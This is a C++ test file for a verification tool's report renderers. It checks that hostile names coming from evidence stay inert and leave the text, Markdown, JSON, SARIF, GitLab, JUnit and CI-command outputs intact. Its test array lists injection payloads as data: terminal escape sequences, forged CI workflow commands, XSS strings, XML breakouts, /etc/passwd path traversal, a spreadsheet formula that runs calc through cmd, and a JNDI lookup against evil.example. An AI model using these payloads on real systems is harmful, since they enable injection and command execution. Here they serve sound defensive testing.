// Reports of hostile names: whatever the format, nothing that came from evidence is active.
#include <doctest/doctest.h>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>

#include "pipeseal/base/escape.h"
#include "pipeseal/base/utf8.h"
#include "pipeseal/encoding/node.h"
#include "pipeseal/encoding/xml_document.h"
#include "pipeseal/report/report.h"
#include "pipeseal/verify/rules.h"

namespace pipeseal::report {
namespace {

constexpr std::string_view kHostile[] = {
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x07link",
    "a\n::error::owned",
    "\r::error::owned",
    "::add-mask::x",
    "  ::stop-commands::x",
    "\u3000::error::owned",
    "text ##[error]owned",
    "text ##vso[task.setvariable variable=x]y",
    "a|b `code` | c",
    "\\| back \\` slash",
    "| --- | --- |",
    "\u202egpj.exe",
    "\u200b\u2066\u2069\ufeff",
    "\u2028line\u2029paragraph",
    "\xff\xfe not UTF-8 \xc3",
    "<script>alert(1)</script><br>",
    "\"quoted\", {\"a\": 1}",
    "\u0085next\u009b31m",
    std::string_view("nul\0byte", 8),
    "::set-output name=x::y",
    "%0A::error::owned%0D,line=1",
    "--><img src=x onerror=alert(1)>",
    "![beacon](https://evil.example/x.png) [link](https://evil.example) @everyone",
    "]]></failure></testcase><testcase name=\"passed\"/>",
    "\"><testcase classname='x'/>",
    "file:///etc/passwd",
    "..%2f..%2f..%2fetc/passwd",
    "=HYPERLINK(\"https://evil.example\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "%s%n{0}{{1}}${jndi:ldap://evil.example}",
    "``` fence",
};

// `text` wherever a report holds something that came from evidence.
Report ReportOf(std::string_view hostile) {
  const std::string text(hostile);
  Report report{.verb = "verify", .headline = text};
  report.facts = {{"layout", text}, {"links", text}, {text, text}};
  report.trace = Check{text, text};
  Check& failed = report.trace.Child(text, text);
  failed.evidence = {{text, text, text}};
  failed.Child(text, text).Pass(text);
  failed.Child(text, text).NotVerified(text);
  failed.Fail(text);
  report.trace.Child(text).Pass(text);
  Finding& finding = report.findings.Add(verify::rules::kMaterialDiffers, text);
  finding.subject = text;
  finding.locations = {{text, {{1, 2, 3}, 4}, text}, {text}};
  finding.evidence = {{text, text, text}, {text, "", text}, {text, text, ""}};
  finding.hint = text;
  return report;
}

// A workflow command that the format itself makes: the runner finds nothing in its properties but these.
bool IsOwnCommand(std::string_view line) {
  for (const std::string_view name : {"::error ", "::warning ", "::notice "}) {
    if (!line.starts_with(name)) continue;
    const std::string_view properties = line.substr(name.size(), line.find("::", name.size()) - name.size());
    if (!properties.starts_with("file=") || properties.contains('\r')) return false;
    std::string names;
    for (std::string_view rest = properties; !rest.empty();) {
      const std::string_view property = rest.substr(0, rest.find(','));
      names += std::string(property.substr(0, property.find('='))) + " ";
      rest.remove_prefix(std::min(property.size() + 1, rest.size()));
    }
    return names == "file line endLine title " || names == "file title ";
  }
  return false;
}

// What a terminal or a CI system would act on, or nothing.
std::string FindActive(std::string_view text, bool has_commands) {
  if (!IsValidUtf8(text)) return "bytes that are not UTF-8";
  for (std::string_view rest = text; !rest.empty();) {
    const CodePoint c = DecodeUtf8(rest);
    if (c.value != '\n' && IsUnprintable(c.value)) return "an unprintable character";
    rest.remove_prefix(c.length);
  }
  for (std::size_t at = 0; at < text.size();) {
    const std::string_view line = text.substr(at, text.find('\n', at) - at);
    const std::size_t first = line.find_first_not_of(' ');
    const bool is_command = first != std::string_view::npos && line.substr(first).starts_with("::");
    if (is_command && !(has_commands && IsOwnCommand(line)))
      return "a workflow command";
    // Both are read anywhere in a line.
    if (line.contains("##[") || line.contains("##vso["))
      return "a workflow command of the older form";
    at += line.size() + 1;
  }
  return "";
}

std::size_t Count(std::string_view text, char c) {
  return static_cast<std::size_t>(std::ranges::count(text, c));
}

void CheckInert(std::string_view hostile) {
  for (const Format& format : Formats())
    for (const bool verbose : {false, true}) {
      CAPTURE(format.name);
      CAPTURE(EscapeForTerminal(hostile));
      const std::string text = format.render(ReportOf(hostile), {.verbose = verbose});
      CHECK(FindActive(text, format.name == "github") == "");
      CHECK(text.ends_with('\n'));
    }
}

TEST_CASE("no format lets a hostile name act") {
  for (const std::string_view hostile : kHostile) CheckInert(hostile);
}

void CheckTexts(const encoding::Node& node) {
  if (node.is(encoding::Kind::kString)) CheckInert(node.text());
  for (const encoding::Node* element : node.elements()) CheckTexts(*element);
  for (const encoding::Member& member : node.members()) {
    CheckInert(member.key);
    CheckTexts(*member.value);
  }
}

TEST_CASE("no format lets the names of the conformance kit act") {
  const char* kit = std::getenv("PIPESEAL_CONFORMANCE");
  if (kit == nullptr) return;
  std::size_t files = 0;
  for (const auto& entry : std::filesystem::directory_iterator(std::string(kit) + "/hostile/report")) {
    std::ifstream file(entry.path(), std::ios::binary);
    const auto document = encoding::Document::ParseJson(std::string(std::istreambuf_iterator<char>(file), {}));
    if (document) CheckTexts(document->root());  // what cannot be read reaches no report
    ++files;
  }
  CHECK(files > 10);
}

TEST_CASE("a hostile name does not change how many lines a report has") {
  for (const Format& format : Formats()) {
    const std::size_t lines = Count(format.render(ReportOf("harmless"), {}), '\n');
    for (const std::string_view hostile : kHostile) {
      CAPTURE(format.name);
      CAPTURE(EscapeForTerminal(hostile));
      CHECK(Count(format.render(ReportOf(hostile), {}), '\n') == lines);
    }
  }
}

// Names and attributes of elements, in order: what markup there is.
std::string ShapeOf(const encoding::XmlElement& element) {
  std::string shape(element.name());
  for (const auto& attribute : element.attributes()) shape += " " + std::string(attribute.name());
  shape += "(";
  for (const auto& child : element.children()) shape += ShapeOf(child);
  return shape + ")";
}

TEST_CASE("a hostile name changes no markup of a JUnit report") {
  const auto plain = encoding::XmlDocument::Parse(RenderJUnit(ReportOf("harmless"), {}));
  REQUIRE(plain);
  for (const std::string_view hostile : kHostile) {
    CAPTURE(EscapeForTerminal(hostile));
    const auto document = encoding::XmlDocument::Parse(RenderJUnit(ReportOf(hostile), {}));
    REQUIRE_MESSAGE(document, document.error().message());
    CHECK(ShapeOf(document->root()) == ShapeOf(plain->root()));
  }
}

TEST_CASE("a hostile name leaves reports in JSON valid") {
  for (const std::string_view hostile : kHostile)
    for (const auto render : {RenderJson, RenderSarif, RenderGitLab})
      CHECK(encoding::Document::ParseJson(render(ReportOf(hostile), {})));
}

TEST_CASE("the only escape sequences of a text report are its own colours") {
  for (const std::string_view hostile : kHostile) {
    const std::string plain = RenderText(ReportOf(hostile), {});
    std::string painted = RenderText(ReportOf(hostile), {.color = true});
    CHECK(plain.find('\x1b') == std::string::npos);
    for (const std::string_view code : {"\x1b[31m", "\x1b[32m", "\x1b[33m", "\x1b[2m", "\x1b[0m"})
      for (std::size_t at; (at = painted.find(code)) != std::string::npos;)
        painted.erase(at, code.size());
    CHECK(painted == plain);
  }
}

// Pipes that end a cell: those without a backslash before them.
std::size_t CellEnds(std::string_view line) {
  std::size_t ends = 0;
  for (std::size_t i = 0; i < line.size(); ++i) {
    if (line[i] == '\\')
      ++i;
    else if (line[i] == '|')
      ++ends;
  }
  return ends;
}

TEST_CASE("rows of Markdown tables keep their cells, and code spans are closed") {
  for (const std::string_view hostile : kHostile) {
    const std::string text = RenderMarkdown(ReportOf(hostile), {});
    CAPTURE(text);
    std::size_t columns = 0;
    for (std::size_t at = 0; at < text.size();) {
      const std::string_view line = std::string_view(text).substr(at, text.find('\n', at) - at);
      at += line.size() + 1;
      CHECK(Count(line, '`') % 2 == 0);
      if (!line.starts_with('|')) {
        columns = 0;
        continue;
      }
      if (columns == 0) columns = CellEnds(line);
      CHECK(CellEnds(line) == columns);
    }
  }
}

std::string_view TextOf(const encoding::Node& object, std::string_view member) {
  const encoding::Node* value = object.Find(member);
  REQUIRE(value != nullptr);
  return value->text();
}

TEST_CASE("a JSON report says what was there, for programs") {
  for (const std::string_view hostile : kHostile) {
    const auto document = encoding::Document::ParseJson(RenderJson(ReportOf(hostile), {}));
    REQUIRE_MESSAGE(document, document.error().message());
    const encoding::Node& root = document->root();
    const std::string told = ReplaceInvalidUtf8(hostile);
    CHECK(TextOf(root, "schema_version") == "verification-report-1");
    CHECK(TextOf(root, "verb") == "verify");
    CHECK(TextOf(root, "result") == "refused");
    CHECK(TextOf(root, "exit_status") == "1");
    CHECK(TextOf(root, "headline") == told);
    CHECK(TextOf(*root.Find("facts"), "layout") == told);
    CHECK(TextOf(*root.Find("facts"), told) == told);
    REQUIRE(root.Find("findings") != nullptr);
    REQUIRE(root.Find("findings")->elements().size() == 1);
    const encoding::Node& finding = *root.Find("findings")->elements().front();
    CHECK(TextOf(finding, "rule") == "step/material-differs");
    CHECK(TextOf(finding, "severity") == "error");
    CHECK(TextOf(finding, "message") == told);
    CHECK(TextOf(finding, "file") == told);
    CHECK(TextOf(finding, "line") == "2");
    CHECK(TextOf(finding, "column") == "3");
    CHECK(finding.Find("locations")->elements().size() == 2);
    CHECK(TextOf(*finding.Find("locations")->elements().front(), "line") == "2");
    CHECK(finding.Find("locations")->elements().back()->Find("line") == nullptr);
    CHECK(finding.Find("evidence")->elements().size() == 3);
    const auto checks = root.Find("trace")->Find("children")->elements();
    REQUIRE(checks.size() == 2);
    CHECK(TextOf(*checks.front(), "verdict") == "failed");
    CHECK(TextOf(*checks.back(), "verdict") == "passed");
    CHECK(TextOf(*checks.front()->Find("children")->elements().back(), "verdict") ==
          "not-verified");
  }
}

}  // namespace
}  // namespace pipeseal::report
